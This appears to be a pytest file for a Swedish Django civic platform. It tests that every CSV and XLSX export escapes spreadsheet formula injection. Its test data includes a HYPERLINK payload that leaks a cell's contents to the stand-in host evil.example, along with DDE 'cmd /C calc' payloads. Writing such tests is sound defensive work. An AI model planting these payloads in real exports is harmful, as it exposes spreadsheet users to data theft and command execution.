"""Spreadsheet formulas in exports (CSV injection): the cell rule and every export that uses it."""

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from delaktig.core import exports
from delaktig.core.exports import cell

SRC = Path(__file__).resolve().parents[1] / "src"
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
# For a field of at most 40 characters (a proposal's case number).
SHORT_PAYLOAD = '=HYPERLINK("http://evil.example","x")'
# What a spreadsheet may run as a formula, written out here rather than taken from the code
# under test.
STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER_CHARS = set("0123456789.,")


def formula_cells(rows: list[list[Any]]) -> list[Any]:
    """Cells a spreadsheet would read as a formula: starting (after blanks) with = + - @ or a
    full-width form, or with a tab or carriage return. A signed plain number is a number."""
    found = []
    for row in rows:
        for value in row:
            if not isinstance(value, str) or not value:
                continue
            if value[0] in "\t\r":
                found.append(value)
                continue
            rest = value.lstrip()
            if rest.startswith(STARTS):
                digits = rest[1:]
                if rest[0] in "+-" and digits[:1].isdigit() and set(digits) <= NUMBER_CHARS:
                    continue
                found.append(value)
    return found


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_private(response: Any) -> None:
    """A raw export is kept by no cache (see also tests/test_security_headers.py)."""
    directives = {d.strip() for d in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= directives, response["Cache-Control"]


def neutralised(rows: list[list[Any]], payload: str = PAYLOAD) -> int:
    """How many cells hold the payload, written with the apostrophe."""
    return sum(value == "'" + payload for row in rows for value in row)


# --- The cell rule ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        PAYLOAD,
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "-SUM(A1)",
        "\t=1+1",
        "\tvanlig text",
        "\rvanlig text",
        " =1+1",
        "\n=1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "\uff1d1+1",
        "\uff0bSUM(A1)",
        "\uff0d1",
        "\uff20SUM(A1)",
        "=",
        "-",
        "+",
        "--5",
        "-5 %",
        "-1 000",
        "+46 70 123 45 67",
        "+46 (0)70-123 45 67",
        "-5\n=HYPERLINK(1)",
        "-Infinity",
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value: str) -> None:
    assert exports.is_formula(value)
    assert cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-5", "+5", "-2.00", "-0,25", "-1E-7", "+3e5", " -5", "-5e+10", "-1234567890.5"],
)
def test_a_plain_number_stays_a_number(value: str) -> None:
    assert not exports.is_formula(value)
    assert cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -2.5,
        Decimal("-1200.00"),
        date(2026, 3, 1),
        None,
        True,
        "",
        "Vanlig text",
        "Buss = bäst",
        "E-post: a@b.se",
        "1+1",
        "q12: Vad tycker du?",
        "'=redan skyddad",
    ],
)
def test_everything_else_is_left_as_it_is(value: Any) -> None:
    assert cell(value) is value


def test_the_writer_neutralises_every_cell_and_nothing_else() -> None:
    out = io.StringIO()
    exports.writer(out).writerows([["id", "namn", "text"], [1, PAYLOAD, "-5"]])
    assert csv_rows(out.getvalue().encode()) == [["id", "namn", "text"], ["1", "'" + PAYLOAD, "-5"]]
    # Rows without formulas come out byte for byte as csv.writer writes them.
    rows = [["id", "namn", "belopp", "dag"], [2, 'Kim, "Kalle"', Decimal("-1.50"), None]]
    ours, theirs = io.StringIO(), io.StringIO()
    exports.writer(ours, delimiter=";").writerows(rows)
    csv.writer(theirs, delimiter=";").writerows(rows)
    assert ours.getvalue() == theirs.getvalue()


def test_the_dict_writer_neutralises_header_and_rows() -> None:
    out = io.StringIO()
    writer = exports.DictWriter(out, fieldnames=["=namn", "belopp"])
    writer.writeheader()
    writer.writerows([{"=namn": PAYLOAD, "belopp": Decimal("-5.00")}, {"=namn": "Kim"}])
    assert csv_rows(out.getvalue().encode()) == [
        ["'=namn", "belopp"],
        ["'" + PAYLOAD, "-5.00"],
        ["Kim", ""],
    ]
    with pytest.raises(ValueError, match="dict contains fields not in fieldnames"):
        writer.writerow({"okänd": 1})


def test_xlsx_rows_hold_no_formula_and_keep_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    exports.append_row(sheet, ["namn", "antal", "text"])
    exports.append_row(sheet, [PAYLOAD, -5, "-5"])
    out = io.BytesIO()
    workbook.save(out)
    read = load_workbook(out)
    sheet = read.active
    assert sheet is not None
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[1] == ["'" + PAYLOAD, -5, "-5"]
    assert formula_cells(rows) == []


def test_the_cell_rule_imports_no_django() -> None:
    # opinionmaps.polisdata has no Django import, and writes through the cell rule.
    code = (
        "import sys, tempfile; from delaktig.core import exports; "
        "from delaktig.opinionmaps import polisdata; "
        "assert exports.cell('=1') == \"'=1\"; "
        "bad = [m for m in sys.modules if m == 'django' or m.startswith('django.')]; "
        "assert not bad, bad"
    )
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    env.pop("DJANGO_SETTINGS_MODULE", None)
    result = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stderr


def test_no_module_writes_csv_or_xlsx_around_the_cell_rule() -> None:
    """Every CSV and XLSX the platform produces goes through delaktig.core.exports."""
    offenders = []
    for path in sorted((SRC / "delaktig").rglob("*.py")):
        if path == SRC / "delaktig" / "core" / "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", "Workbook("):
            if needle in text and not (needle == "Workbook(" and "exports.append_row(" in text):
                offenders.append(f"{path.relative_to(SRC)}: {needle}")
    assert offenders == []


# --- Every export with the payload in each field a person can type ---------------------------


@pytest.mark.django_db
def test_proposals_csv_export_has_no_formula(client: Client) -> None:
    from django.utils import timezone

    from delaktig.proposals import services
    from delaktig.proposals.workflow import Outcome
    from tests.factories import (
        BodyFactory,
        MunicipalityFactory,
        OrganisationFactory,
        UserFactory,
        proposal_rules,
        role,
        submitted_days_ago,
        verified_resident,
    )

    region = OrganisationFactory()
    region.municipalities.add(MunicipalityFactory(code="2380", name="Östersund"))
    proposal_rules(region, support_phase=False)
    official = role(UserFactory(), "official", region)
    author = verified_resident(region.municipalities.get())
    draft = services.proposal_save_draft(
        actor=author,
        organisation=region,
        title=PAYLOAD,
        body=PAYLOAD,
        background=PAYLOAD,
        author_name=PAYLOAD,
    )
    proposal = services.proposal_submit(actor=author, proposal=draft)
    proposal = services.proposal_publish(actor=official, proposal=proposal)
    proposal = services.proposal_register(
        actor=official,
        proposal=submitted_days_ago(proposal, 30),
        registered_on=timezone.localdate() - timedelta(days=20),
        case_number=SHORT_PAYLOAD,
    )
    proposal = services.proposal_refer(
        actor=official, proposal=proposal, body=BodyFactory(organisation=region), official=official
    )
    proposal = services.proposal_propose_decision(actor=official, proposal=proposal, text="Bifall")
    services.proposal_decide(
        actor=official,
        proposal=proposal,
        outcome=Outcome.APPROVED,
        decided_on=timezone.localdate() - timedelta(days=5),
        decided_by=BodyFactory(organisation=region, kind="assembly"),
        minutes_reference=PAYLOAD,
        answer=PAYLOAD,
    )
    response = client.get(reverse("proposals:export_csv"))
    assert response.status_code == 200
    assert_private(response)
    assert_private(client.get(reverse("proposals:export_json")))
    rows = csv_rows(response.content)
    assert len(rows) == 2
    # title, body, background, author_name, minutes_reference, answer; and the case number
    assert neutralised(rows) == 6
    assert neutralised(rows, SHORT_PAYLOAD) == 1
    assert formula_cells(rows) == []


@pytest.mark.django_db
def test_comment_export_has_no_formula() -> None:
    from delaktig.discussions.services import comment_hide
    from tests.factories import CommentFactory, UserFactory, open_discussion, role

    module = open_discussion()
    official = role(UserFactory(), "official", module.process.organisation)
    author = UserFactory(display_name=PAYLOAD)
    shown = CommentFactory(module=module, author=author, body=PAYLOAD)
    hidden = CommentFactory(module=module, author=author, body=PAYLOAD, parent=shown)
    comment_hide(actor=official, comment=hidden, rule="other", reason=PAYLOAD)
    client = Client()
    client.force_login(official)
    url = reverse(
        "staff:export",
        kwargs={"pk": module.process_id, "module_pk": module.pk, "key": "comments_csv"},
    )
    response = client.get(url)
    assert response.status_code == 200
    assert_private(response)
    rows = csv_rows(response.content)
    assert len(rows) == 3
    # Both names, the shown comment's text, the reason it was hidden; the hidden text is left out.
    assert neutralised(rows) == 4
    assert formula_cells(rows) == []


@pytest.mark.django_db
def test_polis_zip_has_no_formula() -> None:
    from delaktig.opinionmaps import services
    from tests.factories import UserFactory
    from tests.test_opinionmaps_services import official_of, open_map, seed

    opinion_map = open_map()
    (statement,) = seed(opinion_map, [PAYLOAD])
    for value, user in zip((1, -1, 0), (UserFactory(), UserFactory(), UserFactory()), strict=True):
        services.vote_cast(actor=user, statement=statement, value=value)
    process = opinion_map.module.process
    client = Client()
    client.force_login(official_of(process.organisation))
    url = reverse(
        "staff:export",
        kwargs={"pk": process.pk, "module_pk": opinion_map.module_id, "key": "polis_zip"},
    )
    response = client.get(url)
    assert response.status_code == 200
    assert_private(response)
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    files = {name: csv_rows(archive.read(name)) for name in archive.namelist()}
    assert set(files) == {"votes.csv", "comments.csv", "participants-votes.csv"}
    assert neutralised(files["comments.csv"]) == 1
    for rows in files.values():
        assert formula_cells(rows) == []
    # A vote of -1 is still the number -1.
    assert sorted(row[-1] for row in files["votes.csv"][1:]) == ["-1", "0", "1"]


@pytest.mark.django_db
def test_payroll_csv_has_no_formula() -> None:
    from delaktig.councils.models import Attendance, CompensationModel, Council, Membership
    from delaktig.meetings.models import Meeting
    from tests.factories import OrganisationFactory, UserFactory, role

    region = OrganisationFactory()
    official = role(UserFactory(), "official", region)
    CompensationModel.objects.create(
        organisation=region,
        fee_basis="half_day",
        fee=600,
        lost_earnings_cap_per_half_day=900,
        travel_basis="distance",
        travel_per_km=2.5,
    )
    council = Council.objects.create(
        organisation=region, kind="pensionarsrad", name=PAYLOAD, slug="pr", mandate="Samråd."
    )
    membership = Membership.objects.create(
        council=council,
        user=UserFactory(),
        name=PAYLOAD,
        nominated_by=PAYLOAD,
        term_start=date(2025, 1, 1),
        term_end=date(2026, 12, 31),
    )
    start = datetime(2026, 3, 10, 10, tzinfo=ZoneInfo("Europe/Stockholm"))
    meeting = Meeting.objects.create(
        organisation=region,
        council=council,
        kind="council",
        title="Rådsmöte",
        starts_at=start,
        ends_at=start + timedelta(hours=5),
    )
    Attendance.objects.create(
        meeting=meeting,
        membership=membership,
        present=True,
        half_days=1,
        approved_at=start + timedelta(days=1),
        approved_by=official,
    )
    client = Client()
    client.force_login(official)
    response = client.get(reverse("councils:payroll", args=[region.slug]) + "?manad=2026-03")
    assert response.status_code == 200
    assert_private(response)
    rows = csv_rows(response.content)
    assert len(rows) == 2
    assert neutralised(rows) == 3  # name, nominated_by, council
    assert formula_cells(rows) == []


@pytest.mark.django_db
def test_survey_exports_have_no_formula() -> None:
    from delaktig.surveys import services
    from delaktig.surveys.models import Survey
    from tests.factories import UserFactory, role
    from tests.survey_helpers import build_survey

    built = build_survey(access=Survey.Access.INVITATION)
    built.transport.text = PAYLOAD
    built.transport.save()
    built.bus.label = PAYLOAD
    built.bus.save()
    official = role(UserFactory(), "official", built.organisation)
    services.invitations_create(actor=official, survey=built.survey, count=2, label=PAYLOAD)
    client = Client()
    client.force_login(official)
    module = built.survey.module_id

    for kind in ("csv", "xlsx", "raw"):
        assert_private(client.get(reverse("surveys:export", args=[module, kind])))
    aggregates = csv_rows(client.get(reverse("surveys:export", args=[module, "csv"])).content)
    assert formula_cells(aggregates) == []

    reply = client.get(reverse("surveys:export", args=[module, "xlsx"]))
    workbook = load_workbook(io.BytesIO(reply.content))
    sheets = {s.title: [list(r) for r in s.iter_rows(values_only=True)] for s in workbook}
    for sheet in workbook.worksheets:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    for rows in sheets.values():
        assert formula_cells(rows) == []
    # The question's text on each of its three choices' rows, and the one choice's label.
    assert neutralised(sheets["Andelar"]) == 4
    # The CSV holds the same tables, neutralised alike.
    assert neutralised(aggregates) == sum(neutralised(rows) for rows in sheets.values())

    invitations = client.get(reverse("surveys:invitations", args=[module]) + "?format=csv")
    assert_private(invitations)
    links = csv_rows(invitations.content)
    assert neutralised(links) == 2
    assert formula_cells(links) == []
